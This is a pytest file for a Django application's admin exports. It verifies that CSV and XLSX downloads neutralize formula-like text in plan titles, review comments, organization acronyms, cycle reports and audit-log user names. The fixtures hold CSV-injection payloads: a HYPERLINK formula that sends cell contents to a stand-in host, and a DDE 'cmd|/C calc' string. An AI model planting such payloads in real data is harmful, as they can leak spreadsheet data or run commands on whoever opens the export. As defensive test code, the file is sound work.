"""Exports that cannot run code: text that a spreadsheet would take for a formula (beginning
with =, +, -, @, a tab or a carriage return; OWASP "CSV injection") is written as a plan
title, a comment's section, text, proposed change and rationale, an organization's acronym, a
cycle's joint review and evaluation, and a user name typed on the sign-in page by
someone not signed in. Every export is downloaded and read back: no cell is a formula, each
such text is a string cell (XLSX) or begins with the neutralizing apostrophe (CSV), and
otherwise reads exactly as typed."""

from __future__ import annotations

import csv
import datetime
import io
import zipfile

import openpyxl
import pytest
from django.contrib.admin import helpers
from django.contrib.auth import get_user_model
from django.test import Client
from django.urls import reverse

from assessments.models import Assessment, AssessmentCycle
from organizations.models import Organization, Role
from planning.models import CampaignPlan
from security.audit import audit_record
from security.models import AuditAction, AuditEvent
from security.spreadsheets import FORMULA_TRIGGERS, csv_writer, neutralized, xlsx_append
from workflow.models import Response, Tasker
from workflow.selectors import comments_of, open_taskers
from workflow.services import tasker_respond, transition_perform

PREFIXES = ["=", "+", "-", "@", "\t", "\r"]


def payload(prefix: str, what: str) -> str:
    return f'{prefix}HYPERLINK("https://example.invalid/?"&A1,"{what}")'


def short(prefix: str, index: int) -> str:
    """What fits an organization's acronym (40 characters)."""
    return f"{prefix}SUM(1+1)*cmd|'/C calc'!A{index}"


@pytest.fixture
def poisoned(world):
    """Six plans, one per prefix, each answered with a non-concur whose comment is poisoned too;
    every organization renamed to a formula; a cycle whose texts are formulas."""
    plans = []
    officer = world.user("EUCOM", Role.ACTION_OFFICER)
    for prefix in PREFIXES:
        plan = world.ready_plan()
        CampaignPlan.objects.filter(pk=plan.pk).update(title=payload(prefix, "plan title"))
        plan = transition_perform(document=CampaignPlan.objects.get(pk=plan.pk), name="submit", by=officer)
        tasker_respond(tasker=open_taskers(plan).get(organization=world.orgs["DON"]),
                       by=world.user("DON", Role.REVIEWER), response=Response.NONCONCUR,
                       rationale=payload(prefix, "rationale"),
                       comments=[{"category": "critical", "section": payload(prefix, "section"),
                                  "text": payload(prefix, "comment"),
                                  "proposed_change": payload(prefix, "proposed change")}])
        # The service strips surrounding whitespace; an import or an older row need not have.
        comments_of(plan).update(section=payload(prefix, "section"), text=payload(prefix, "comment"),
                                 proposed_change=payload(prefix, "proposed change"))
        plans.append(plan)
    # Renamed once the routes have found them by their acronyms.
    for index, organization in enumerate(Organization.objects.order_by("pk")):
        Organization.objects.filter(pk=organization.pk).update(acronym=short(PREFIXES[index % 6], index))
    day = datetime.date(2030, 1, 1)
    cycle = AssessmentCycle.objects.create(
        fiscal_year=2030, owner=world.orgs["J5"],
        policy_office=world.orgs["USD(P)"], template_suspense=day, collection_suspense=day,
        joint_review_suspense=day, evaluation_suspense=day, joint_review=payload("+", "joint review"),
        evaluation=payload("@", "evaluation"))
    for plan in plans:
        Assessment.objects.create(cycle=cycle, owner=plan.owner, plan=plan, suspense=day,
                                  title=payload("-", "assessment"))
    return world, plans, cycle


@pytest.fixture
def tasked_reviewer(poisoned):
    """A reviewer of the Army, whose coordination of every plan is still open."""
    world = poisoned[0]
    user = world.user("DA", Role.REVIEWER)
    client = Client()
    client.force_login(user)
    return client


@pytest.fixture
def administrator(poisoned):
    user = get_user_model().objects.create_superuser("export_administrator", password="x" * 16)
    client = Client()
    client.force_login(user)
    return client


def sign_in_attempts_with_formula_names() -> list[str]:
    """The user names the audit trail recorded (the sign-in form strips surrounding whitespace)."""
    for number, prefix in enumerate(PREFIXES):
        Client(REMOTE_ADDR=f"192.0.2.{number + 10}").post(reverse("admin:login"), {
            "username": payload(prefix, "user"), "password": "not-the-password", "consent": "on"})
    names = list(AuditEvent.objects.filter(username__contains='"user")').values_list("username", flat=True))
    assert sorted(names) == sorted(payload(prefix, "user").strip() for prefix in PREFIXES)
    return names


def run_action(client, changelist: str, action: str, ids) -> bytes:
    response = client.post(reverse(changelist), {"action": action, helpers.ACTION_CHECKBOX_NAME: list(ids)})
    assert response.status_code == 200, response.status_code
    assert response["Content-Disposition"].startswith("attachment")
    return response.content


def csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8"), newline="")) for cell in row]


def assert_csv_neutralized(content: bytes, expected: list[str]) -> None:
    """No cell begins like a formula; each expected text is there, behind the apostrophe if it would."""
    cells = csv_cells(content)
    live = [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)]
    assert not live, live
    for text in expected:
        assert ("'" + text if text.startswith(FORMULA_TRIGGERS) else text) in cells, (text, "\n".join(cells))


def assert_xlsx_neutralized(content: bytes, expected: list[str]) -> None:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert sheets
        for name in sheets:
            assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS):
                    assert cell.data_type == "s" and cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    for text in expected:
        # XML turns a carriage return into a line feed (a string cell either way).
        text = text.replace("\r", "\n")
        assert any(text in value for value in texts), (text, texts)


def plan_texts(plans) -> list[str]:
    return [payload(prefix, "plan title") for prefix in PREFIXES]


@pytest.mark.postgres
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_plan_list_export_writes_formula_like_titles_and_owners_as_text(poisoned, administrator, fmt):
    _world, plans, _cycle = poisoned
    content = run_action(administrator, "admin:planning_campaignplan_changelist", f"export_{fmt}",
                         [plan.pk for plan in plans])
    expected = [*plan_texts(plans), plans[0].owner.__class__.objects.get(pk=plans[0].owner_id).acronym]
    (assert_csv_neutralized if fmt == "csv" else assert_xlsx_neutralized)(content, expected)


@pytest.mark.postgres
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_tasker_list_export_writes_formula_like_titles_and_organizations_as_text(poisoned, tasked_reviewer, fmt):
    world, plans, _cycle = poisoned
    content = run_action(tasked_reviewer, "admin:workflow_tasker_changelist", f"export_{fmt}",
                         Tasker.objects.values_list("pk", flat=True))
    (assert_csv_neutralized if fmt == "csv" else assert_xlsx_neutralized)(
        content, [*plan_texts(plans), Organization.objects.get(pk=world.orgs["DA"].pk).acronym])


@pytest.mark.postgres
def test_the_comment_matrix_writes_formula_like_comments_and_the_title_line_as_text(poisoned, administrator):
    _world, plans, _cycle = poisoned
    for prefix, plan in zip(PREFIXES, plans, strict=True):
        response = administrator.get(reverse("admin:planning_campaignplan_comments_xlsx", args=[plan.pk]))
        assert response.status_code == 200
        comment = comments_of(plan).get()
        assert_xlsx_neutralized(response.content, [
            payload(prefix, "plan title"), comment.section, comment.text, comment.proposed_change,
            comment.decision_rationale])


@pytest.mark.postgres
def test_the_cycle_report_writes_formula_like_reviews_and_organizations_as_text(poisoned, administrator):
    _world, plans, cycle = poisoned
    response = administrator.get(reverse("admin:assessments_assessmentcycle_report_xlsx", args=[cycle.pk]))
    assert response.status_code == 200
    owner = Organization.objects.get(pk=plans[0].owner_id).acronym
    assert_xlsx_neutralized(response.content, [payload("+", "joint review"),
                                               payload("@", "evaluation"), owner])


@pytest.mark.postgres
def test_the_audit_csv_writes_user_names_typed_at_sign_in_as_text(poisoned, administrator):
    names = sign_in_attempts_with_formula_names()
    # The form strips a leading tab or carriage return from a user name; other texts of the trail
    # (descriptions name what they record) can begin with one.
    for prefix in PREFIXES:
        audit_record(action=AuditAction.ADMIN_CHANGE, description=payload(prefix, "description"),
                     username=payload(prefix, "recorded user"))
    names += [payload(prefix, what) for prefix in PREFIXES for what in ("description", "recorded user")]
    content = run_action(administrator, "admin:security_auditevent_changelist", "export_csv",
                         AuditEvent.objects.values_list("pk", flat=True))
    assert_csv_neutralized(content, names)


def test_numbers_stay_numbers_and_only_text_is_neutralized():
    assert neutralized(-3) == -3
    assert neutralized(2.5) == 2.5
    assert neutralized("-3") == "'-3"
    assert neutralized("=1+1") == "'=1+1"
    assert neutralized("a=1") == "a=1"
    assert neutralized(None) == ""
    buffer = io.StringIO()
    csv_writer(buffer).writerow([-3, "-3", "@SUM(A1)", "\tx", "\rx", "plain"])
    assert next(csv.reader(io.StringIO(buffer.getvalue(), newline=""))) == ["-3", "'-3", "'@SUM(A1)", "'\tx", "'\rx",
                                                                           "plain"]
    workbook = openpyxl.Workbook()
    negative, text, formula, control = xlsx_append(workbook.active, [-3, "-3", "=HYPERLINK(\"x\")", "a\x01b"])
    assert (negative.value, negative.data_type) == (-3, "n")
    assert (text.value, text.data_type, text.quotePrefix) == ("-3", "s", True)
    assert (formula.value, formula.data_type) == ("=HYPERLINK(\"x\")", "s")
    assert control.value == "a\N{REPLACEMENT CHARACTER}b"
    buffer = io.BytesIO()
    workbook.save(buffer)
    reread = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active
    assert [cell.value for cell in reread[1]] == [-3, "-3", "=HYPERLINK(\"x\")", "a\N{REPLACEMENT CHARACTER}b"]
    assert reread["C1"].data_type == "s"
